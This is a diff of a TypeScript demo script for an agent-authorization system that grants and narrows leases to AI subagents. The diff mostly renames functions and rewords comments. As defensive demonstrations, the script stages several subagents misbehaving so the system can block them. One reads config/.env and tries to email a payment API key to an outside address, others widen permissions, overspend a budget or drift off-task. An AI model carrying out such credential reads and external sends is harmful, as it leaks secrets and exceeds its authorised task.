@@ -6,15 +6,15 @@ import { GuardedTools, type CallResult } from './guarded-tools';
 import { checkReceipt } from './receipt';
 import { makeWorkspace } from './workspace';
 
-export type Say = (line?: string) => void;
+export type Print = (line?: string) => void;
 
-/** Everyone in the story speaks with credentials of their own. */
+/** The participants, each with separate credentials. */
 interface Cast {
   readonly orchestrator: BailiwickClient;
   readonly approver: BailiwickClient;
   readonly responder: BailiwickClient;
   readonly analyst: BailiwickClient;
-  readonly say: Say;
+  readonly print: Print;
   readonly tools: GuardedTools;
 }
 interface Agent {
@@ -29,10 +29,10 @@ const PURPOSE =
 const FILES = [{ type: 'file', match: '**' }];
 
 /**
- * The main job on real input: a lease asked for and approved, narrower leases for three subagents, real files read and
- * written through a real MCP server, and then everything that goes wrong. True where the receipt verified at the end.
+ * Plays the main job on real input: a lease is requested and approved, three subagents get narrower leases and read and
+ * write real files through a real MCP server, and then several agents misbehave. Returns whether the receipt verified.
  */
-export async function playStory(credentials: Credentials, say: Say): Promise<boolean> {
+export async function playStory(credentials: Credentials, print: Print): Promise<boolean> {
   const as = (role: string) => new BailiwickClient({ url: credentials.url, key: credentials.keys[role] as string });
   const workspace = makeWorkspace();
   const tools = await GuardedTools.start(workspace.dir);
@@ -41,12 +41,12 @@ export async function playStory(credentials: Credentials, say: Say): Promise<boo
     approver: as('approver'),
     responder: as('responder'),
     analyst: as('analyst'),
-    say,
+    print,
     tools,
   };
   try {
-    say(bold('Bailiwick: a maintenance task over a copy of this repository'));
-    say(
+    print(bold('Bailiwick: a maintenance task over a copy of this repository'));
+    print(
       dim(
         `workspace ${workspace.dir}, behind a real MCP filesystem server (${(await tools.toolNames()).length} tools)`,
       ),
@@ -65,15 +65,15 @@ export async function playStory(credentials: Credentials, say: Say): Promise<boo
   }
 }
 
-function chapter({ say }: Cast, n: number, title: string): void {
-  say();
-  say(bold(`${n}. ${title}`));
+function chapter({ print }: Cast, n: number, title: string): void {
+  print();
+  print(bold(`${n}. ${title}`));
 }
 
 async function openWithApproval(cast: Cast): Promise<Agent> {
-  const { say } = cast;
+  const { print } = cast;
   chapter(cast, 1, 'The orchestrator asks for a lease; a person grants it');
-  const asked = await cast.orchestrator.openRun({
+  const requested = await cast.orchestrator.openRun({
     agent: {
       class: 'repo-maintenance-agent',
       instance: 'demo-1',
@@ -92,13 +92,13 @@ async function openWithApproval(cast: Cast): Promise<Agent> {
       purpose: { onDrift: { stepUpAt: 0.6, suspendAt: 0.8 } },
     },
   });
-  if (!('approval' in asked)) throw new Error('the lease should have needed a person');
-  const card = await cast.approver.approval(asked.approval.id);
-  say(`   ${yellow('asks')}  ${plain(card.asks)}`);
-  for (const line of card.may.slice(0, 6)) say(dim(`         may ${plain(line)}`));
-  for (const line of card.mayNot) say(dim(`         may not: ${plain(line)}`));
+  if (!('approval' in requested)) throw new Error('the lease should have required an approval');
+  const card = await cast.approver.approval(requested.approval.id);
+  print(`   ${yellow('asks')}  ${plain(card.asks)}`);
+  for (const line of card.may.slice(0, 6)) print(dim(`         may ${plain(line)}`));
+  for (const line of card.mayNot) print(dim(`         may not: ${plain(line)}`));
   const answer = await cast.approver.decide(card.id, 'approve', 'routine documentation work');
-  say(`   ${green('approved')} by ${answer.approval.decidedBy ?? 'a person'}`);
+  print(`   ${green('approved')} by ${answer.approval.decidedBy ?? 'a person'}`);
   return agentOf(cast, 'orchestrator', answer as unknown as Granted);
 }
 
@@ -108,14 +108,14 @@ function agentOf(cast: Cast, name: string, granted: Granted): Agent {
 
 type Lease = Parameters<BailiwickClient['delegate']>[1]['grant'];
 
-/** The parent hands out a narrower lease with its own token: no key of a service is needed. */
+/** Delegates a narrower lease with the parent's token; no API key is needed. */
 async function hire(cast: Cast, parent: Agent, agentClass: string, task: string, grant: Lease): Promise<Agent> {
   const granted = await parent.client.delegate(parent.grantId, { agent: { class: agentClass }, task, grant });
-  cast.say(`   ${green('lease')}  ${agentClass}: ${task} ${dim(granted.grant.id)}`);
+  cast.print(`   ${green('lease')}  ${agentClass}: ${task} ${dim(granted.grant.id)}`);
   return agentOf(cast, agentClass, granted);
 }
 
-/** @returns the id of the action that wrote the summary */
+/** Returns the ID of the action that wrote the summary. */
 async function work(cast: Cast, root: Agent): Promise<string> {
   chapter(cast, 2, 'It hands narrower leases to a reader, a writer and a reviewer; they work');
   const reader = await hire(cast, root, 'reader', 'read the documentation', {
@@ -132,13 +132,13 @@ async function work(cast: Cast, root: Agent): Promise<string> {
     resources: [{ type: 'file', match: 'docs/**' }],
     budget: { calls: 10 },
   });
-  const listing = tell(
+  const listing = showCall(
     cast,
     reader,
     'list_directory .',
     await cast.tools.call(reader.client, reader.grantId, 'list_directory', '.'),
   );
-  const readme = tell(
+  const readme = showCall(
     cast,
     reader,
     'read package.json',
@@ -149,7 +149,7 @@ async function work(cast: Cast, root: Agent): Promise<string> {
     .filter((line) => line.startsWith('[DIR]'))
     .map((line) => line.slice(6));
   const name = /"name": "([^"]+)"/.exec(readme ?? '')?.[1] ?? 'this repository';
-  tell(
+  showCall(
     cast,
     reader,
     'write docs/x.md',
@@ -157,60 +157,60 @@ async function work(cast: Cast, root: Agent): Promise<string> {
   );
   const content = `# ${name}\n\nTop-level folders:\n\n${entries.map((entry) => `- ${entry}`).join('\n')}\n`;
   const written = await cast.tools.call(writer.client, writer.grantId, 'write_file', 'docs/SUMMARY.md', { content });
-  tell(cast, writer, 'write docs/SUMMARY.md', written);
-  tell(
+  showCall(cast, writer, 'write docs/SUMMARY.md', written);
+  showCall(
     cast,
     writer,
     'write package.json',
     await cast.tools.call(writer.client, writer.grantId, 'write_file', 'package.json', { content: '{}' }),
   );
-  tell(
+  showCall(
     cast,
     reviewer,
     'read docs/SUMMARY.md',
     await cast.tools.call(reviewer.client, reviewer.grantId, 'read_text_file', 'docs/SUMMARY.md'),
   );
-  for (const done of [reader, writer, reviewer]) await done.client.complete(done.runId);
-  cast.say(dim('   the three report their work done; their leases end with it'));
+  for (const agent of [reader, writer, reviewer]) await agent.client.complete(agent.runId);
+  cast.print(dim('   the three report their work done; their leases end with it'));
   return written.decision.actionId;
 }
 
-/** Prints one call and gives back what the tool said. */
-function tell(cast: Cast, agent: Agent, what: string, result: CallResult): string | undefined {
+/** Prints a call and returns the output of the tool. */
+function showCall(cast: Cast, agent: Agent, what: string, result: CallResult): string | undefined {
   if (result.done) {
-    cast.say(`   ${green('permit')} ${agent.name}: ${what} ${dim(`(${result.text.length} characters came back)`)}`);
+    cast.print(`   ${green('permit')} ${agent.name}: ${what} ${dim(`(${result.text.length} characters came back)`)}`);
     return result.text;
   }
-  tellDecision(cast, agent, what, result.decision);
+  showDecision(cast, agent, what, result.decision);
   return undefined;
 }
 
-function tellDecision({ say }: Cast, agent: Agent, what: string, decision: ActionAnswer): void {
+function showDecision({ print }: Cast, agent: Agent, what: string, decision: ActionAnswer): void {
   const word =
     decision.decision === 'permit' ? green('permit') : decision.decision === 'deny' ? red('deny  ') : yellow('ask   ');
-  say(`   ${word} ${agent.name}: ${what}`);
+  print(`   ${word} ${agent.name}: ${what}`);
   const reasons = reasonText(decision.reasons, '          ');
-  if (reasons) say(reasons);
+  if (reasons) print(reasons);
 }
 
 async function widen(cast: Cast, root: Agent): Promise<void> {
   chapter(cast, 3, 'A child tries to widen its lease');
-  const greedy = await hire(cast, root, 'planner', 'plan the next step', {
+  const planner = await hire(cast, root, 'planner', 'plan the next step', {
     budget: { calls: 10 },
     delegation: { depth: 1, children: 2, classes: ['helper'] },
   });
   try {
-    await greedy.client.delegate(greedy.grantId, {
+    await planner.client.delegate(planner.grantId, {
       agent: { class: 'helper' },
       task: 'do anything at all',
       grant: { actions: { allow: ['*'] }, budget: { calls: 1_000 }, risk: { ceiling: 'irreversible' } },
     });
-    throw new Error('a wider child must be refused');
+    throw new Error('the wider delegation should have been refused');
   } catch (error) {
     if (!(error instanceof ProblemError) || error.code !== 'GRANT_WIDENS_PARENT') throw error;
-    cast.say(`   ${red('refused')} planner → helper: ${error.code}`);
+    cast.print(`   ${red('refused')} planner → helper: ${error.code}`);
     for (const reason of error.reasons) {
-      cast.say(
+      cast.print(
         dim(
           `          ${plain(reason.path ?? reason.rule)}: has ${short(reason.limit)}, asked ${short(reason.actual)}`,
         ),
@@ -231,7 +231,7 @@ async function exfiltrate(cast: Cast, root: Agent): Promise<void> {
     actions: { allow: ['email.send'] },
     budget: { external: 1 },
   });
-  tell(
+  showCall(
     cast,
     scout,
     'read config/.env',
@@ -242,7 +242,7 @@ async function exfiltrate(cast: Cast, root: Agent): Promise<void> {
     action: { verb: 'email.send', args: { to: 'someone@elsewhere.example', body: 'PAYMENT_API_KEY=…' } },
     resource: { type: 'mailbox', id: 'someone@elsewhere.example' },
   });
-  tellDecision(cast, mailer, 'email.send to someone@elsewhere.example', decision);
+  showDecision(cast, mailer, 'email.send to someone@elsewhere.example', decision);
 }
 
 async function overspend(cast: Cast, root: Agent): Promise<void> {
@@ -252,7 +252,12 @@ async function overspend(cast: Cast, root: Agent): Promise<void> {
     budget: { calls: 3 },
   });
   for (const path of ['package.json', 'tsconfig.json', 'nest-cli.json', 'jest.config.cjs']) {
-    tell(cast, counter, `read ${path}`, await cast.tools.call(counter.client, counter.grantId, 'read_text_file', path));
+    showCall(
+      cast,
+      counter,
+      `read ${path}`,
+      await cast.tools.call(counter.client, counter.grantId, 'read_text_file', path),
+    );
   }
 }
 
@@ -270,17 +275,17 @@ async function drift(cast: Cast, root: Agent): Promise<void> {
   for (let i = 0; i < paths.length && Date.now() < until; i++) {
     const result = await cast.tools.call(wanderer.client, wanderer.grantId, 'read_text_file', paths[i] as string);
     if (!result.done) {
-      cast.say(dim(`   after ${i} files that the task never named:`));
-      tell(cast, wanderer, `read ${paths[i] as string}`, result);
+      cast.print(dim(`   after ${i} files that the task never named:`));
+      showCall(cast, wanderer, `read ${paths[i] as string}`, result);
       break;
     }
   }
   const grant = await cast.analyst.grant(wanderer.grantId);
-  cast.say(`   the lease is ${yellow(grant.status)}${grant.endReason ? dim(`: ${plain(grant.endReason)}`) : ''}`);
-  if (grant.status !== 'suspended') throw new Error(`the wanderer should have been suspended, and is ${grant.status}`);
+  cast.print(`   the lease is ${yellow(grant.status)}${grant.endReason ? dim(`: ${plain(grant.endReason)}`) : ''}`);
+  if (grant.status !== 'suspended') throw new Error(`the wanderer should be suspended but is ${grant.status}`);
 }
 
-/** Files all over the workspace, none of them asked for by the task. */
+/** Returns files from all over the workspace; the task requests none of them. */
 async function sourceFiles(cast: Cast, root: Agent): Promise<string[]> {
   const found = await cast.tools.call(root.client, root.grantId, 'search_files', '.', { pattern: '**/*.ts' });
   if (!found.done) throw new Error('the orchestrator should be able to search');
@@ -295,7 +300,7 @@ async function onCall(cast: Cast, root: Agent): Promise<void> {
   chapter(cast, 7, 'On call stops every wanderer and every mailer that is left');
   for (const agentClass of ['wanderer', 'mailer']) {
     const preview = await cast.responder.previewRevocation({ agentClass });
-    cast.say(
+    cast.print(
       `   blast radius of class ${agentClass}: ${preview.counts.grants} grants, ${preview.counts.runs} runs, ${preview.counts.inFlight} in flight`,
     );
     const revoked = await cast.responder.revokeAll({
@@ -303,11 +308,11 @@ async function onCall(cast: Cast, root: Agent): Promise<void> {
       reason: 'left its purpose',
       digest: preview.digest,
     });
-    cast.say(
+    cast.print(
       `   ${red('revoked')} ${revoked.revocationId} ${dim(`one event per log: ${JSON.stringify(revoked.positions)}`)}`,
     );
   }
-  cast.say(
+  cast.print(
     treeText(await cast.analyst.tree((await root.client.run(root.runId)).treeId))
       .split('\n')
       .map((line) => `   ${line}`)
@@ -318,5 +323,5 @@ async function onCall(cast: Cast, root: Agent): Promise<void> {
 async function account(cast: Cast, root: Agent, actionId: string, credentials: Credentials): Promise<boolean> {
   chapter(cast, 8, 'The work is done: the receipt, its custody, and its proof');
   const { position } = await root.client.complete(root.runId);
-  return checkReceipt(cast.analyst, { runId: root.runId, position, actionId }, credentials, cast.say);
+  return checkReceipt(cast.analyst, { runId: root.runId, position, actionId }, credentials, cast.print);
 }
